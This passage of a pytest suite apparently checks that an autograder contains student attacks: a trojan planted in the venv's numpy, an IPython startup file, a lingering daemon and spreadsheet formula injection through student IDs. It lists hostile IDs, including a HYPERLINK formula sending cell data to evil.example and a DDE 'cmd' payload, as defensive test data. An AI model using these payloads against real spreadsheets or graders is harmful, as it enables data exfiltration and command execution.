    assert_ran(batch, SMALL_BOUND_S)
    assert_full_marks(batch, "b_honest")
    assert_earns(batch, "a_signal", 0.0)
    assert_nothing_left(batch)


def test_user_child_deletes_ready() -> None:
    """The child deletes the sandbox's ``ready`` file and exits while loading. Broken: the
    parent takes it for its own failure (SandboxError) and aborts the batch."""
    batch = small_batch("user-ready", lambda s: (
        put(s, "a_ready", attack({LAST: DELETE_READY})), put(s, "b_honest", h.honest())),
        as_user=True)
    assert_ran(batch, SMALL_BOUND_S)
    assert_full_marks(batch, "b_honest")
    assert_earns(batch, "a_ready", 0.0)
    assert_nothing_left(batch)


def build_user(s: Path) -> None:
    put(s, "a_trojan", attack({LAST: TROJAN}))
    put(s, "b_honest", h.honest())
    put(s, "c_ipython", attack({LAST: IPYTHON}))
    put(s, "d_daemon", attack({LAST: DAEMON}))
    put(s, "e_honest", h.honest())


@pytest.fixture(scope="module")
def user_batch() -> Batch:
    """Graded as the normal user, who owns (a copy of) the venv's numpy as an instructor owns
    their venv."""
    return h.grade_batch("user", build_user, jobs=1, as_user=True, timeout=180.0)


def test_user_trojan_in_the_venv(user_batch: Batch) -> None:
    """a_trojan writes numpy/_distributor_init_local.py into the instructor's venv; every later
    ``import numpy`` runs it. Broken: it runs in the next students' sandboxes (20 -> 0) and in
    the instructor's own Python."""
    assert_ran(user_batch, 90.0)
    assert_full_marks(user_batch, "b_honest", "e_honest")
    venv = [str(p) for p in user_batch.left.files if "numpy" in str(p)]
    assert not venv, f"written into the venv: {venv}"


def test_user_ipython_startup_file(user_batch: Batch) -> None:
    """c_ipython writes ~/.ipython/profile_default/startup/00-....py in the real home. Broken:
    it is there after the batch and runs in the instructor's next IPython/Jupyter."""
    assert_ran(user_batch, 90.0)
    home = [str(p) for p in user_batch.left.files if str(p).startswith(h.grader_user().pw_dir)]
    assert not home, f"written into the grader's home: {home}"


def test_user_process_left_running(user_batch: Batch) -> None:
    """d_daemon forks a process in its own session that execs a new command line. Broken: it
    is still running after the batch."""
    assert_ran(user_batch, 90.0)
    assert not user_batch.left.processes, user_batch.left.processes


# --------------------------------------------------------------------------------------------
# The Python API
# --------------------------------------------------------------------------------------------

API_SCRIPT = r'''
import csv, importlib, json, sys
from pathlib import Path

kit, out, student = Path(sys.argv[1]).resolve(), Path(sys.argv[2]), sys.argv[3]


def load(*names):
    # the first of ``names`` that the kit under test has (an editable install of another
    # checkout may offer modules the kit does not have: those do not count)
    for name in names:
        try:
            mod = importlib.import_module(name)
        except ImportError:
            continue
        if Path(mod.__file__).resolve().is_relative_to(kit):
            return mod
    raise SystemExit(f"the kit has none of {names}")


export = load("autograder.engine.export", "autograder.export")
model = load("autograder.results", "autograder.grade")
try:
    check = model.CheckResult(name="test_conv_output_size", points=3.0, max_points=3.0,
                              message="ok")
    result = model.SubmissionResult(student=student, assignment="01_conv_arithmetic",
                                    results=[check])
    export.write_grades([result], out)
except ValueError as exc:
    print(json.dumps({"refused": str(exc)[:200]}))
else:
    with open(out / "grades.csv", newline="", encoding="utf-8") as f:
        print(json.dumps({"rows": list(csv.reader(f))}))
'''

HOSTILE_IDS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "alice\nmallory,20",
               "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "bob\x1b[2J"]


def test_api_writes_no_unchecked_id_into_grades_csv(tmp_path: Path) -> None:
    """The public function that writes grades.csv, given results whose student id is a formula
    or contains a newline or ESC. Broken: written as is (a formula runs in the spreadsheet, a
    newline adds a row)."""
    for i, hostile in enumerate(HOSTILE_IDS):
        out = tmp_path / f"out{i}"
        out.mkdir()
        proc = subprocess.run([sys.executable, "-c", API_SCRIPT, str(h.KIT), str(out), hostile],
                              cwd=tmp_path, capture_output=True, text=True, timeout=120,
                              env={**os.environ, "PYTHONPATH": str(h.KIT)})
        assert proc.returncode == 0, proc.stderr[-800:]
        doc = json.loads(proc.stdout.strip().splitlines()[-1])
        if "refused" in doc:
            continue
        rows = doc["rows"]
        assert len(rows) == 2, f"{hostile!r} made rows {rows}"
        cells = [c for row in rows[1:] for c in row]
        bad = [c for c in cells if c[:1] in ("=", "+", "-", "@") or h.CONTROL.search(c)]
        assert not bad, f"{hostile!r} written as {bad}"
